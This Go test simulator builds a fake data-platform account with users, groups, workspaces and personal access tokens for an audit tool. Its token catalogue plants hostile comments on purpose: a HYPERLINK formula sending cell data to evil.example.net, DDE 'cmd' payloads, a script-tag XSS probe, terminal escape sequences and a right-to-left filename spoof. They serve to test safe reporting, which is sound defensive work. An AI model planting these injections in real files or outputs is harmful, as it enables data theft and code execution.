package simulator

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"slices"
	"strings"
)

// bigID is the smallest number that a float64 rounds once it is odd: ids above
// it show clients that decode into floats.
const bigID = 1 << 53

// stream is the random numbers of one part of the population. Each part has
// its own, so that more workspaces do not change the first ones.
func stream(seed uint64, part string) *rand.Rand {
	h := fnv.New64a()
	h.Write([]byte(part))
	return rand.New(rand.NewPCG(seed, h.Sum64()))
}

// populate fills a new account.
func populate(a *Account) {
	rng := stream(a.opts.Seed, "account")
	a.id = uuid(rng)
	a.directory = &directory{byID: map[int64]*principal{}, byName: map[string]*principal{}}
	cast := peopleOf(a, rng)
	for i := range a.opts.Workspaces {
		a.workspaces = append(a.workspaces, newWorkspace(a, i, cast))
	}
}

func uuid(rng *rand.Rand) string {
	return fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x",
		rng.Uint32(), rng.Uint32()&0xffff, rng.Uint32()&0xfff, 0x8000|rng.Uint32()&0x3fff, rng.Uint64()&0xffffffffffff)
}

func hexString(rng *rand.Rand, bytes int) string {
	b := make([]byte, bytes)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return hex.EncodeToString(b)
}

// people are the principals that tokens are handed out to, by role.
type people struct {
	admin, viewer, nested, deepNested *principal
	contractor, elsewhere             *principal
	direct                            *principal // has a grant of its own in the dev workspace
	active, inactive, services        []*principal
	busy                              []*principal // hold many tokens
	departed                          []*principal // in no directory
}

// caster makes principals with ids that never collide: the low bits count.
type caster struct {
	dir  *directory
	rng  *rand.Rand
	next int64
}

// newID alternates between small ids and odd ones above 2^53.
func (c *caster) newID() int64 {
	c.next++
	if c.next%3 == 0 {
		return bigID + (c.rng.Int64N(1<<37)<<24 | c.next<<1 | 1)
	}
	return c.rng.Int64N(1<<28)<<24 | 1<<52 | c.next<<1
}

func (c *caster) user(name, display string) *principal {
	return c.dir.add(&principal{User: User{ID: c.newID(), Name: name, DisplayName: display, Active: true}})
}

func (c *caster) service(display string) *principal {
	return c.dir.add(&principal{User: User{ID: c.newID(), Name: uuid(c.rng), DisplayName: display, Active: true, Service: true}})
}

// peopleOf fills the directory. Its size follows the number of tokens, but the
// special roles are always there.
func peopleOf(a *Account, rng *rand.Rand) *people {
	c := &caster{dir: a.directory, rng: rng}
	tokens := a.opts.Tokens
	cast := &people{}
	cast.admin = c.user("patrol-admin@example.com", "Patrol Admin")
	cast.admin.accountAdmin = true
	cast.viewer = c.user("viewer@example.com", "Viewer Without Rights")
	cast.nested = c.user("platform.lead@example.com", "Platform Lead")
	cast.deepNested = c.user("on.call@example.com", "On Call")
	cast.contractor = c.user("contractor@example.net", "External Contractor")
	cast.elsewhere = c.user("moved.on@example.com", "Moved To Another Workspace")
	cast.busy = append(cast.busy, c.user("busy.builder@example.com", "Busy Builder"))
	for i := range 2 {
		p := c.user(fmt.Sprintf("deactivated%02d@example.com", i+1), "Deactivated User")
		p.Active = false
		cast.inactive = append(cast.inactive, p)
	}
	// Display names that are hard on tables, terminals and quoting.
	for _, display := range []string{
		"User 001", "Zoë O'Brien 🚀", "מ. משתמש", "مستخدم تجريبي", `Pat "Quotes", Jr.; Sr.`, "=1+1 Formula", "用户 七",
	} {
		cast.active = append(cast.active, c.user(fmt.Sprintf("user%03d@example.com", len(cast.active)+1), display))
	}
	cast.direct = cast.active[2]
	for i := range tokens/4 + 12 { // ordinary people: a quarter as many as tokens
		number := len(cast.active) + len(cast.inactive) - 1
		p := c.user(fmt.Sprintf("user%03d@example.com", number), fmt.Sprintf("User %03d", number))
		switch {
		case i%24 == 23:
			p.Active = false
			cast.inactive = append(cast.inactive, p)
			continue
		case i%512 == 511:
			cast.busy = append(cast.busy, p)
		}
		cast.active = append(cast.active, p)
	}
	for i := range tokens/100 + 1 {
		cast.departed = append(cast.departed, &principal{User: User{ID: c.newID(), Name: fmt.Sprintf("former%02d@example.com", i+1)}})
	}
	auditor := c.service("account-auditor")
	auditor.accountAdmin, auditor.secret = true, "dose"+hexString(c.rng, 16)
	c.dir.auditor = auditor
	for _, name := range []string{"etl-runner", "ci-deployer", `dbt "nightly"; job`, "bi-gateway 📊"} {
		cast.services = append(cast.services, c.service(name))
	}
	c.service("retired-loader").Active = false
	for i := range tokens / 40 {
		cast.services = append(cast.services, c.service(fmt.Sprintf("service-%03d", i+1)))
	}
	// Every workspace puts platform-admins into its admins; break-glass is nested in it.
	newGroup := func(name string) *group {
		g := &group{id: c.newID(), name: name, account: true}
		c.dir.groups = append(c.dir.groups, g)
		return g
	}
	platform, glass := newGroup("platform-admins"), newGroup("break-glass")
	engineers, science := newGroup("data-engineers"), newGroup("ml-team 🤖")
	platform.add(cast.nested)
	platform.nest(glass)
	glass.add(cast.deepNested)
	engineers.add(cast.viewer)
	engineers.add(cast.services[0])
	engineers.add(cast.contractor)
	for i, p := range cast.active[:min(len(cast.active), 400)] {
		switch i % 4 {
		case 1:
			engineers.add(p)
		case 3:
			science.add(p)
		}
	}
	return cast
}

// newWorkspace is a workspace with its settings and tokens: production is lax on
// purpose, the sandbox is strict, the others vary.
func newWorkspace(a *Account, i int, cast *people) *workspace {
	cloud := [][2]string{{"azure", "westeurope"}, {"aws", "eu-central-1"}, {"gcp", "europe-west3"}}[i%3]
	name, env := fmt.Sprintf("workspace-%02d", i+1), "test"
	if i < 2 {
		name, env = []string{"prod-analytics", "dev-sandbox"}[i], []string{"prod", "dev"}[i]
	}
	rng := stream(a.opts.Seed, "workspace "+name)
	ws := &workspace{
		Workspace: Workspace{
			Name: name, Cloud: cloud[0], Profile: name, Labels: map[string]string{"env": env, "cloud": cloud[0]},
			Admin: cast.admin.Name, Viewer: cast.viewer.Name,
		},
		region: cloud[1], created: a.born.AddDate(-3, 0, -i).UnixMilli(),
		admin: cast.admin, viewer: cast.viewer,
		outside: map[int64]bool{cast.elsewhere.ID: true}, grantState: GrantsInitialised,
	}
	if i%2 == 0 { // above 2^53 for every other workspace, the first included
		ws.ID = bigID + rng.Int64N(1<<50)*2 + 1
	} else {
		ws.ID = 1e15 + rng.Int64N(7e15)
	}
	ws.Token, ws.ViewerToken = "dapi"+hexString(rng, 16), "dapi"+hexString(rng, 16)
	switch ws.Cloud {
	case "azure":
		ws.deployment = fmt.Sprintf("adb-%d.%d", ws.ID, i+3)
	case "gcp":
		ws.deployment = fmt.Sprintf("%d.%d", ws.ID, i+3)
	default:
		sum := sha256.Sum256([]byte(ws.Name))
		ws.deployment = "dbc-" + hex.EncodeToString(sum[:4]) + "-" + hex.EncodeToString(sum[4:6])
	}
	c := &caster{dir: a.directory, rng: rng, next: int64(1<<20 + 16*i)}
	ws.client = c.service(name + "-automation")
	ws.client.secret = "dose" + hexString(rng, 16)
	ws.ClientID, ws.ClientSecret = ws.client.Name, ws.client.secret
	ws.admins = &group{id: c.newID(), name: "admins"}
	ws.users = &group{id: c.newID(), name: "users"}
	for _, p := range []*principal{cast.admin, ws.client, a.directory.auditor, cast.active[0]} {
		ws.admins.add(p)
	}
	ws.admins.nest(a.directory.group("platform-admins"))
	switch i {
	case 0:
		ws.conf = map[string]string{
			"enableResultsDownloading": "true", "enableExportNotebook": "true", "enableWebTerminal": "true",
			"enableVerboseAuditLogs": "false", "enforceUserIsolation": "false",
		}
		ws.grants = []Grant{{GroupName: "users", Level: CanUse}}
		ws.restrict = restrictSetting{status: AllowAll, version: 1}
	case 1:
		ws.conf = map[string]string{
			"maxTokenLifetimeDays": "90", "enableTokensConfig": "true", "enableIpAccessLists": "TRue",
			"enableVerboseAuditLogs": "true", "enableResultsDownloading": "false", "maxUserInactiveDays": "90",
		}
		ws.grants = []Grant{
			{GroupName: "admins", Level: CanUse}, // a second level on the admins' entry
			{GroupName: "data-engineers", Level: CanUse},
			{UserName: cast.direct.Name, Level: CanUse},
		}
		ws.restrict = restrictSetting{status: RestrictTokensAndJobRuns, version: 4}
		ws.ipLists = []IPList{
			{"office", "ALLOW", []string{"192.0.2.0/24", "198.51.100.7"}, true},
			{"old vpn", "BLOCK", []string{"203.0.113.0/25"}, false},
		}
	default:
		ws.conf = map[string]string{"maxTokenLifetimeDays": []string{"0", "365", "30"}[i%3], "enableIpAccessLists": "false"}
		ws.grants = []Grant{{GroupName: []string{"users", "data-engineers"}[i%2], Level: CanUse}}
		ws.restrict = restrictSetting{status: []string{AllowAll, RestrictTokensAndJobRuns}[i%2], version: i}
	}
	if i%5 == 4 && a.opts.Tokens == 0 { // there never was a token
		ws.grantState = GrantsNotInitialised
	}
	fillTokens(a, ws, cast, rng)
	return ws
}

// Autoscope states of generated tokens.
const (
	autoscopeDisabled      = "AUTOSCOPE_STATE_DISABLED"
	autoscopeRunning       = "AUTOSCOPE_STATE_RUNNING"
	autoscopeCompleted     = "AUTOSCOPE_STATE_COMPLETED"
	autoscopeBackfilled    = "AUTOSCOPE_STATE_BACKFILLED"
	autoscopeUserSelected  = "AUTOSCOPE_STATE_USER_SELECTED"
	autoscopeAPINotCovered = "AUTOSCOPE_STATE_API_NOT_COVERED"
)

// kind is one sort of token. The first tokens of a workspace are one of each
// row, in order; the rest are drawn by weight.
type kind struct {
	name   string
	weight int // relative share among the drawn tokens; 0 never drawn
	owner  func(*generator) *principal
	life   func(*generator, *Token)
	// comment is that of the one of the row; drawn tokens have ordinary ones.
	comment func(*generator) string
	scopes  Token // its scopes and state of autoscope
}

// kinds is the catalogue; at most 40 rows, so that a workspace of 40 tokens has
// them all. Hostile comments sit on tokens that break policy, because that is
// where they reach reports.
func kinds() []kind {
	sql := []string{"sql", "unity-catalog"}
	return []kind{
		{name: "caller", owner: callersOwn, life: daily(90, 10), comment: text("patrol audit")},
		{name: "healthy", weight: 600, life: healthy, comment: text("OPS-1234 nightly load")},
		{name: "endless", weight: 40, life: lived(forever, 400, 1), comment: text(`=HYPERLINK("https://evil.example.net/?x="&A1,"renew")`)},
		{name: "never-used-old", weight: 40, life: lived(90, 45, unused), comment: text("<script>alert(1)</script>")},
		{name: "unused-over-90-days", weight: 60, life: lived(365, 200, 120), comment: text("+cmd|' /C calc'!A0")},
		{name: "lifetime-365", weight: 30, life: lived(365, 60, 0), comment: text("@SUM(1+1)*cmd|' /C calc'!A0")},
		{name: "lifetime-730", weight: 20, life: lived(730, 400, 2), comment: text("\x1b[31mred\x1b[0m alert\x1b[2J")},
		{name: "expired", weight: 40, life: lived(60, 70, 20), comment: text("\x1b]8;;https://evil.example.net/\x1b\\link\x1b]8;;\x1b\\")},
		{name: "secret-in-comment", weight: 3, owner: busy, life: healthy, comment: fakeSecret},
		{name: "deactivated-owner", weight: 15, owner: inactive, life: lived(60, 30, 12), comment: text("invoice\u202Egpj.exe")},
		{name: "departed-owner", weight: 8, owner: departed, life: lived(60, 30, 25), comment: text("left\x00over")},
		{name: "on-behalf-of", weight: 30, owner: service, life: onBehalf, comment: text("OPS-77 deployment pipeline")},
		{name: "expiring-soon", weight: 20, life: lived(60, 57, 0), comment: text("renew me")},
		{name: "scope-authentication", weight: 3, owner: busy, life: healthy, comment: text("token broker"),
			scopes: Token{Scopes: []string{"authentication"}}},
		{name: "lifetime-90-exactly", weight: 10, life: daily(90, 20), comment: text("90 days, not a second more")},
		{name: "lifetime-90-and-30s", weight: 5, life: slightlyOver, comment: text("_x000D_ literal")},
		{name: "issued-365-ten-days-left", weight: 10, life: lived(365, 355, 0), comment: text("DATA-9 yearly token")},
		{name: "never-used-young", weight: 40, life: lived(60, 3, unused), comment: text("just created")},
		{name: "rotation-leftover", weight: 8, life: lived(85, 50, 20), comment: text("airflow prod")},
		{name: "rotation-successor", owner: sameOwner, life: lived(85, 20, 0), comment: sameComment},
		{name: "contractor-owner", weight: 3, owner: contractor, life: lived(60, 20, 1), comment: text("vendor, access")},
		{name: "nested-admin-owner", weight: 2, owner: nested, life: healthy, comment: text("break glass")},
		{name: "deep-nested-admin-owner", weight: 2, owner: deepNested, life: healthy, comment: text("on call")},
		{name: "owner-outside-workspace", weight: 1, owner: elsewhere, life: lived(60, 40, 35), comment: text("moved on")},
		{name: "viewer", owner: viewer, life: daily(60, 5), comment: text("viewer laptop")},
		{name: "scoped", weight: 10, owner: busy, life: healthy, comment: text("dashboard, read only"),
			scopes: Token{Scopes: sql, AutoscopeState: autoscopeUserSelected}},
		{name: "autoscope-disabled", weight: 5, owner: busy, life: healthy, comment: text("autoscope off"),
			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeDisabled}},
		{name: "autoscope-running", weight: 5, owner: busy, life: healthy, comment: text("autoscope observing"),
			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeRunning, InferredScopes: sql}},
		{name: "autoscope-completed", weight: 5, owner: busy, life: healthy, comment: text("autoscope done"),
			scopes: Token{Scopes: sql, AutoscopeState: autoscopeCompleted, InferredScopes: sql}},
		{name: "autoscope-backfilled", weight: 5, owner: busy, life: healthy, comment: text("autoscope from history"),
			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeBackfilled, BackfillScopes: []string{"jobs", "clusters"}}},
		{name: "autoscope-not-covered", weight: 2, owner: busy, life: healthy, comment: text("autoscope impossible"),
			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeAPINotCovered}},
		{name: "empty-comment", weight: 10, life: healthy, comment: text("")},
		{name: "expiry-cliff", weight: 15, life: cliff, comment: text("\ttab first")},
		{name: "expiry-cliff", life: cliff, comment: text("two\r\nlines")},
		{name: "expiry-cliff", life: cliff, comment: text("🔥 emoji 👩‍💻 é")},
		{name: "expiry-cliff", life: cliff, comment: text(`"quotes",commas;semicolons`)},
		{name: "expiry-cliff", life: cliff, comment: text(strings.Repeat("64 KiB of comment, ", 4<<10)[:64<<10])},
		{name: "owner-with-many-tokens", weight: 15, owner: busy, life: healthy, comment: text("scratch 1")},
		{name: "owner-with-many-tokens", owner: busy, life: healthy, comment: text("scratch 2")},
		{name: "service-principal", weight: 40, owner: service, life: healthy, comment: text("self-service token")},
	}
}

// generator makes the tokens of one workspace.
type generator struct {
	rng     *rand.Rand
	now     int64
	cast    *people
	ws      *workspace
	drawn   bool       // past the one-of-each part
	last    *Token     // for the second half of a rotation
	owner   *principal // of the last
	counter int
}

// fillTokens generates the workspace's tokens: one of each kind, then by weight.
func fillTokens(a *Account, ws *workspace, cast *people, rng *rand.Rand) {
	count := a.opts.Tokens
	ws.tokens = newTokenStore(count)
	g := &generator{rng: rng, now: a.born.UnixMilli(), cast: cast, ws: ws}
	catalogue := kinds()
	successor := slices.IndexFunc(catalogue, func(k kind) bool { return k.name == "rotation-successor" })
	var wheel []int // each index as often as its weight
	for i, k := range catalogue {
		for range k.weight {
			wheel = append(wheel, i)
		}
	}
	block := make([]Token, count) // one allocation for all
	for i := range block {
		k := &catalogue[min(i, len(catalogue)-1)]
		if g.drawn = i >= len(catalogue); g.drawn {
			k = &catalogue[wheel[rng.IntN(len(wheel))]]
			if g.last != nil && g.last.Kind == "rotation-leftover" {
				k = &catalogue[successor]
			}
		}
		t := &block[i]
		*t = k.scopes
		t.Kind, t.ID = k.name, g.tokenID(k)
		p := g.anyone()
		if k.owner != nil {
			p = k.owner(g)
		}
		t.OwnerID, t.CreatedByID, t.CreatedByUsername = p.ID, p.ID, p.Name
		g.owner = p
		if !g.drawn || k.name == "rotation-successor" || k.name == "secret-in-comment" {
			t.Comment = k.comment(g)
		} else {
			t.Comment = g.ordinaryComment()
		}
		k.life(g, t)
		g.last = t
		ws.tokens.put(t)
	}
}

// tokenID makes the id from a value, as the service does. Values are not kept,
// apart from those of the two tokens that clients use.
func (g *generator) tokenID(k *kind) string {
	switch k.name {
	case "caller":
		return tokenIDOf(g.ws.Token)
	case "viewer":
		return tokenIDOf(g.ws.ViewerToken)
	}
	var id [sha256.Size]byte
	for i := 0; i < len(id); i += 8 {
		binary.LittleEndian.PutUint64(id[i:], g.rng.Uint64())
	}
	return hex.EncodeToString(id[:])
}

func pick(rng *rand.Rand, from []*principal) *principal { return from[rng.IntN(len(from))] }

// firstOr is the leading one of a role for the one of its kind, and any for
// drawn tokens.
func (g *generator) firstOr(from []*principal) *principal {
	if g.drawn {
		return pick(g.rng, from)
	}
	return from[0]
}

func (g *generator) anyone() *principal { return pick(g.rng, g.cast.active) }

func callersOwn(g *generator) *principal { return g.ws.admin }
func viewer(g *generator) *principal     { return g.ws.viewer }
func inactive(g *generator) *principal   { return pick(g.rng, g.cast.inactive) }
func departed(g *generator) *principal   { return g.firstOr(g.cast.departed) }
func service(g *generator) *principal    { return g.firstOr(g.cast.services) }
func sameOwner(g *generator) *principal  { return g.owner }

func nested(g *generator) *principal     { return g.special(g.cast.nested) }
func deepNested(g *generator) *principal { return g.special(g.cast.deepNested) }
func contractor(g *generator) *principal { return g.special(g.cast.contractor) }
func elsewhere(g *generator) *principal  { return g.special(g.cast.elsewhere) }
func busy(g *generator) *principal       { return g.firstOr(g.cast.busy) }

// special hands a token to a particular person while that is plausible; in a
// huge workspace one person would soon exceed the quota of live tokens.
func (g *generator) special(p *principal) *principal {
	if g.counter++; g.counter > tokenQuota/4 {
		return g.anyone()
	}
	return p
}

const (
	forever = -1 // lifetime
	unused  = -1 // days since the last use
)

// lived makes a lifetime of so many days, aged so many, last used so many days
// ago. Drawn tokens vary a little, to the same effect.
func lived(lifeDays, ageDays, idleDays int64) func(*generator, *Token) {
	return func(g *generator, t *Token) {
		jitter := g.rng.Int64N(dayMillis / 2)
		t.CreationTime = g.now - ageDays*dayMillis - jitter
		t.ExpiryTime = never
		if lifeDays != forever {
			t.ExpiryTime = t.CreationTime + lifeDays*dayMillis
		}
		if idleDays != unused {
			t.LastUsedDay = midnight(g.now - idleDays*dayMillis)
		}
	}
}

// daily is in use every day.
func daily(lifeDays, ageDays int64) func(*generator, *Token) { return lived(lifeDays, ageDays, 0) }

// healthy lives 30 to 85 days, has at least 15 left and is in use.
func healthy(g *generator, t *Token) {
	life := 30 + g.rng.Int64N(56)
	age := g.rng.Int64N(life - 15)
	lived(life, age, min(g.rng.Int64N(3), age))(g, t)
}

func slightlyOver(g *generator, t *Token) {
	lived(90, 15, 0)(g, t)
	t.ExpiryTime += 30 * 1000
}

// cliff expires in three weeks, on the same day as all of its kind.
func cliff(g *generator, t *Token) {
	life := 40 + g.rng.Int64N(40)
	t.ExpiryTime = midnight(g.now) + 21*dayMillis + 8*60*60*1000 + g.rng.Int64N(8*60*60*1000)
	t.CreationTime = t.ExpiryTime - life*dayMillis
	t.LastUsedDay = midnight(g.now)
}

// onBehalf was created by the admin for a service principal.
func onBehalf(g *generator, t *Token) {
	healthy(g, t)
	t.CreatedByID, t.CreatedByUsername = g.ws.admin.ID, g.ws.admin.Name
}

func text(s string) func(*generator) string { return func(*generator) string { return s } }

func sameComment(g *generator) string { return g.last.Comment }

// fakeSecret looks like a PAT. It is computed, for scanners of source code are
// right to complain about literals.
func fakeSecret(g *generator) string {
	sum := sha256.Sum256(fmt.Appendf(nil, "fake %s %d", g.ws.Name, g.rng.Uint64()))
	return "backup of dapi" + hex.EncodeToString(sum[:16])
}

func (g *generator) ordinaryComment() string {
	n := g.rng.IntN(9000) + 1000
	switch g.rng.IntN(12) {
	case 0, 1, 2:
		return fmt.Sprintf("OPS-%d nightly load", n)
	case 3, 4:
		return fmt.Sprintf("DATA-%d dashboard refresh", n)
	case 5:
		return fmt.Sprintf("INFRA-%d terraform", n)
	case 6, 7:
		return "laptop"
	case 8:
		return "notebook sync"
	case 9:
		return fmt.Sprintf("ci run %d", n)
	case 10:
		return ""
	}
	return "databricks-connect"
}
